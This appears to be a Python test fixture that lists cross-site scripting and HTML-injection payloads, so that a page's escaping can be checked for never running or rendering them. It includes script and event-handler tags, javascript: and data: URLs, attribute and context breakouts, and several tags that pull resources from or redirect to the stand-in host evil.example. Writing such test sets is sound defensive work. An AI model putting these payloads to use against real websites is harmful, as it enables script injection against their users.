"""Texts that a page must never run, follow or draw as markup; each leaves a trace if it does."""

from __future__ import annotations

RUN = "window.pwned=1"
_TAGS = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>",
    "<img src=x class=pwned onerror={run}>",
    '<img src="x` onerror={run}" class=pwned>',
    "<svg class=pwned onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}' class=pwned><text y=9>x</text></a></svg>",
    "<body class=pwned onload={run}>",
    "<iframe class=pwned src='javascript:{run}'></iframe>",
    "<iframe class=pwned srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a class=pwned href='javascript:{run}'>x</a>",
    "<a class=pwned href='//evil.example/'>x</a>",
    '<a class=pwned href="data:text/html,<script>{run}</script>">x</a>',
    "<details open class=pwned ontoggle={run}>",
    "<input autofocus class=pwned onfocus={run}>",
    "<video class=pwned><source onerror={run}></video>",
    "<math><mtext><style><img src=x class=pwned onerror={run}></style></mtext></math>",
    "<style>@import '//evil.example/pwned.css'</style>",
    "<link class=pwned rel=stylesheet href=//evil.example/pwned.css>",
    "<meta class=pwned http-equiv=refresh content='0;url=//evil.example/'>",
    "<base class=pwned href=//evil.example/>",
    "<form class=pwned action=//evil.example/><button>x</button></form>",
    "<object class=pwned data=//evil.example/></object>",
    "<embed class=pwned src=//evil.example/>",
    "<template class=pwned><script>{run}</script></template>",
)
_BREAKS = (
    '"><b class=pwned>x</b>',
    "'><b class=pwned>x</b>",
    "</title><b class=pwned>x</b>",
    "</script><script>{run}</script>",
    "--><b class=pwned>x</b><!--",
    "]]><b class=pwned>x</b>",
    "{{{{ 7*7 }}}}{{% raw %}}",
    "${{{run}}}",
    "&lt;b class=pwned&gt;x&lt;/b&gt;",
    "&#60;b class=pwned&#62;x",
    "<b\tclass=pwned>x</b>",
    "<b\u00a0class=pwned>x",
    "<br class=pwned><i class=pwned>x</i>",
    '" onmouseover="{run}" class="pwned',
    "javascript:{run}",
)
PAYLOADS = tuple(text.format(run=RUN) for text in (*_TAGS, *_BREAKS))
